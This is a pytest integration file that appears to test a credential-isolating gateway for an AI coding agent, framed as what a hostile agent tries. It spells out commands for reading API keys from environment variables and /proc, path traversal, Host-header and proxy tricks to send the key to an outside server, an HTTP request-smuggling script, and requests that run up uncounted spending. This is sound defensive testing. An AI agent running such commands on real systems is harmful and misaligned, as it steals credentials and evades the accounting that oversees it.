"""What a hostile agent does to get the model's key, or to spend without being counted.

Each attempt is a command in the container of a real session. Each is then shown to succeed where the
protection is off: in a session without the gateway, or against a gateway that protects nothing.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path

import pytest

from tests.integration.conftest import LW_CODER, a_person
from tests.integration.execution import Execution
from tests.integration.headless_session import gateways_of
from tests.support.agent_script import prompt_answer
from tests.support.engine import bridge_address, docker
from tests.support.naive_gateway import Listener, listening, naive_gateway
from tests.support.patience import wait_until
from tests.support.sample_repository import KEY, PLAN_ID, make_sample_repository
from tests.support.scripted_model import Conversation, HttpFailure, Reply, Script, ScriptedModel
from tests.support.shell_agent import DONE

pytestmark = pytest.mark.escape

MODEL = "some/model"
MOST = 4096  # max_output_tokens
GATEWAY = "http://gateway:8080"
DEAR = frozenset(("models", "plugins", "n", "service_tier"))  # fields that cost more


@dataclass(frozen=True)
class Attempt:
    """A command of the agent.

    Attributes:
        name: what is tried.
        command: for a shell; $G is the gateway, $TOKEN the run's token, $OTHER the agent's own server.
    """

    name: str
    command: str


def _ask(
    text: str = "Say hello.", flags: str = "", path: str = "/v1/chat/completions", **more: object
) -> str:
    body = {"model": MODEL, "messages": [{"role": "user", "content": text}], **more}
    data = json.dumps(body).replace("OTHER", "'\"$OTHER\"'")
    return (
        f"curl -sS -i -m 20 {flags} -H \"Authorization: Bearer $TOKEN\" -H 'Content-Type: application/json' "
        f"--data-binary '{data}' \"$G{path}\""
    )


# They look for the key in what the container has itself.
INSIDE = (
    Attempt("variables", "env"),
    Attempt("one-variable", "printenv OPENROUTER_API_KEY"),
    Attempt("variables-of-processes", "cat /proc/[0-9]*/environ | tr '\\0' '\\n'"),
    Attempt("variables-of-the-first-process", "tr '\\0' '\\n' < /proc/1/environ"),
    Attempt("memory-of-python", "python3 -c 'import os; print(dict(os.environ))'"),
    Attempt("a-child-of-droid", "sh -c 'export -p'"),
)

# They want to get the key from the gateway, or sent to another server.
KEY_SEEKERS = (
    Attempt("another-address", 'curl -sS -i "$G/debug"'),
    Attempt("dots-in-the-address", 'curl -sS -i --path-as-is "$G/v1/../../etc/gateway.json"'),
    Attempt("its-environment", 'curl -sS -i --path-as-is "$G/v1/%2e%2e/proc/self/environ"'),
    Attempt("host", _ask(flags='-H "Host: ${OTHER#http://}"')),
    Attempt("forwarded-host", _ask(flags='-H "X-Forwarded-Host: ${OTHER#http://}"')),
    Attempt("absolute-address", _ask(flags='--request-target "$OTHER/v1/chat/completions"')),
    Attempt("as-a-proxy", 'curl -sS -i -x "$G" -d "{}" "$OTHER/v1/chat/completions"'),
    Attempt("address-in-the-query", _ask(path="/v1/chat/completions?url=$OTHER")),
    Attempt("address-in-the-body", _ask(api_base="OTHER")),
    Attempt("redirect", _ask("go away")),
    Attempt("error-with-the-key", _ask("fail with the key")),
    Attempt("answer-with-the-key", _ask("say the key")),
    Attempt("stream-with-the-key", _ask("say the key", stream=True)),
    Attempt("trace", 'curl -sS -i -X TRACE "$G/v1/chat/completions" -H "Authorization: Bearer $TOKEN"'),
    Attempt("debug-header", _ask(flags='-H "X-Debug: 1"')),
    Attempt("without-a-token-for-an-error", 'curl -sS -i "$G/v1/chat/completions"'),
)

# Two requests that a server takes for one, or for two, by which of the lengths it believes.
_SMUGGLED = f"""python3 - <<'END'
import os, socket
from urllib.parse import urlsplit
place = urlsplit(os.environ["G"])
hidden = '{{"model": "{MODEL}", "messages": [{{"role": "user", "content": "x"}}]}}'
line = f"POST /v1/chat/completions HTTP/1.1\\r\\nHost: {{place.netloc}}\\r\\n"
first = line + "Authorization: Bearer " + os.environ["TOKEN"] + "\\r\\nTransfer-Encoding: identity\\r\\n"
second = line + f"Content-Length: {{len(hidden)}}\\r\\n\\r\\n{{hidden}}"
sent = first + "Content-Length: 2\\r\\n\\r\\n{{}}" + second
with socket.create_connection((place.hostname, place.port), 5) as connection:
    connection.sendall(sent.encode())
    try:
        while data := connection.recv(9999):
            print(data)
    except TimeoutError:
        pass
END"""

# They want the provider asked more, or for more, than is counted.
SPENDERS = (
    Attempt("another-token", _ask().replace("$TOKEN", "another-runs-token")),
    Attempt("no-token", _ask().replace("Bearer $TOKEN", "")),
    Attempt("another-model", _ask().replace(MODEL, "dear/model")),
    Attempt("more-models", _ask(models=["dear/model"])),
    Attempt("plugins", _ask(plugins=[{"id": "web"}])),
    Attempt("many-answers", _ask(n=50)),
    Attempt("a-dearer-tier", _ask(service_tier="priority")),
    Attempt("an-endless-answer", _ask(max_tokens=1_000_000)),
    Attempt("hanging-up", f"timeout 3 {_ask('take your time', '-N', stream=True)}"),
    Attempt("smuggled-request", _SMUGGLED),
)


def _model(other: str) -> Script:
    def play(conversation: Conversation) -> Reply:
        if conversation.kind == "dspy":
            return prompt_answer(conversation)
        if "go away" in conversation.text:
            return Reply(failure=HttpFailure(307, headers={"Location": f"{other}/v1/chat/completions"}))
        if "fail with the key" in conversation.text:
            return Reply(failure=HttpFailure(401, json.dumps({"error": {"message": f"wrong: {KEY}"}})))
        if "take your time" in conversation.text:
            return Reply("slowly " * 40, stalls=600)
        return Reply(f"It is {KEY}." if "say the key" in conversation.text else DONE)

    return play


@dataclass(frozen=True)
class Scene:
    """Two sessions, one with and one without the gateway, and what is around them."""

    guarded: str  # containers
    plain: str
    run: Path
    token: str
    provider: ScriptedModel
    other: Listener
    naive: Listener

    def inside(self, container: str, attempt: Attempt, gateway: str, token: str) -> str:
        """Make an attempt in a container; return all that it printed."""
        values = {"G": gateway, "TOKEN": token, "OTHER": self.other.origin}
        flags = [part for name, value in values.items() for part in ("--env", f"{name}={value}")]
        return docker("exec", *flags, container, "sh", "-c", f"{{ {attempt.command}\n}} 2>&1; true")

    def counted(self) -> int:
        """Return how many requests the gateway has counted, or counts now."""
        state = json.loads((self.run / "gateway/state.json").read_text())
        lines = (self.run / "gateway/requests.jsonl").read_text().splitlines()
        return len(lines) + len(state["open"])

    def is_idle(self) -> bool:
        """Return whether no request is under way."""
        return not json.loads((self.run / "gateway/state.json").read_text())["open"]


@pytest.fixture(scope="module")
def scene(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Scene]:
    folder, host = tmp_path_factory.mktemp("gateway"), bridge_address()
    with (
        listening(host) as other,
        ScriptedModel(_model(other.origin), host=host) as provider,
        naive_gateway(host, provider.base_url, KEY) as naive,
        _session(folder / "guarded", provider, "gateway = true\n") as guarded,
        _session(folder / "plain", provider, "") as plain,
    ):
        run = guarded.run
        token = json.loads((run / "settings.json").read_text())["customModels"][0]["apiKey"]
        yield Scene(guarded.container, plain.container, run, token, provider, other, naive)


@contextmanager
def _session(folder: Path, provider: ScriptedModel, setting: str) -> Iterator[Execution]:
    """Run a session whose agent has said what it had to say; it waits at its prompt during the block."""
    sample = make_sample_repository(folder / "sample")
    (folder / "home").mkdir()
    sample.write_env(provider.base_url, OPENROUTER_MODEL=MODEL)
    text = f"[code]\nmax_output_tokens = {MOST}\n{setting}"
    (sample.root / ".lw_coder/config.toml").write_text(text, encoding="ascii")
    with (
        a_person(folder / "home", sample.root) as person,
        person.types(LW_CODER, "code", PLAN_ID) as terminal,
    ):
        execution = Execution(terminal, sample.root, PLAN_ID)
        execution.wait_for(DONE)
        assert execution.status is None, terminal.text
        yield execution
        assert execution.end() == 0, terminal.text


def _names(attempt: Attempt) -> str:
    return attempt.name


@pytest.mark.parametrize("attempt", [*INSIDE, *KEY_SEEKERS], ids=_names)
def test_it_does_not_get_the_key(scene: Scene, attempt: Attempt) -> None:
    heard = len(scene.other.heard)
    told = scene.inside(scene.guarded, attempt, GATEWAY, scene.token)
    assert KEY not in told
    assert not any(KEY in request for request in scene.other.heard[heard:])


@pytest.mark.parametrize("attempt", INSIDE, ids=_names)
def test_it_would_without_the_gateway(scene: Scene, attempt: Attempt) -> None:
    assert KEY in scene.inside(scene.plain, attempt, GATEWAY, scene.token)


@pytest.mark.parametrize("attempt", KEY_SEEKERS, ids=_names)
def test_it_would_from_a_naive_gateway(scene: Scene, attempt: Attempt) -> None:
    heard = len(scene.other.heard)
    told = scene.inside(scene.guarded, attempt, scene.naive.origin, scene.token)
    assert KEY in told or any(KEY in request for request in scene.other.heard[heard:])


def _gains(scene: Scene, attempt: Attempt, gateway: str) -> bool:
    """Make an attempt; return whether the provider was asked more than was counted, or for more."""
    asked, counted = len(scene.provider.requests), scene.counted()
    scene.inside(scene.guarded, attempt, gateway, scene.token)
    wait_until(scene.is_idle, "the end of all requests")
    # droid's own requests have instructions.
    bodies = [each.body for each in scene.provider.requests[asked:] if not each.conversation.system]
    return len(bodies) > scene.counted() - counted or any(
        body["model"] != MODEL or not DEAR.isdisjoint(body) or body.get("max_tokens", 0) > MOST
        for body in bodies
    )


@pytest.mark.parametrize("attempt", SPENDERS, ids=_names)
def test_it_does_not_spend_more_than_is_counted(scene: Scene, attempt: Attempt) -> None:
    assert not _gains(scene, attempt, GATEWAY)


@pytest.mark.parametrize("attempt", SPENDERS, ids=_names)
def test_it_would_by_a_naive_gateway(scene: Scene, attempt: Attempt) -> None:
    assert _gains(scene, attempt, scene.naive.origin)


def test_an_honest_request_is_passed_on_and_counted(scene: Scene) -> None:
    counted = scene.counted()
    assert DONE in scene.inside(scene.guarded, Attempt("honest", _ask()), GATEWAY, scene.token)
    wait_until(lambda: scene.counted() == counted + 1, "the request in the count")


def test_it_is_reached_from_its_session_alone(scene: Scene) -> None:
    (gateway,) = gateways_of(scene.run)
    addresses = docker(
        "inspect", "--format", "{{range .NetworkSettings.Networks}}{{.IPAddress}} {{end}}", gateway
    ).split()
    assert len(addresses) == 2
    # Something else may answer at an address that leads nowhere, such as a proxy of the machine's network.
    ask = "for a in $A; do curl -s -m 5 http://$a:8080/; echo; done"

    def reached(container: str) -> int:
        told = docker("exec", "--env", f"A={' '.join(addresses)}", container, "sh", "-c", f"{ask}; true")
        return told.count("lw_coder's gateway")

    assert reached(scene.guarded) == 1, "at its inner address"
    assert reached(scene.plain) == 0


def test_nothing_of_the_run_and_of_the_engine_has_the_key(scene: Scene) -> None:
    texts = [path.read_bytes() for path in scene.run.rglob("*") if path.is_file()]
    assert not any(KEY.encode() in text for text in texts)
    (gateway,) = gateways_of(scene.run)
    assert KEY not in docker("logs", gateway)
    assert KEY not in docker("inspect", scene.guarded)
    assert KEY in docker("inspect", scene.plain), "docker shows a container's variables"
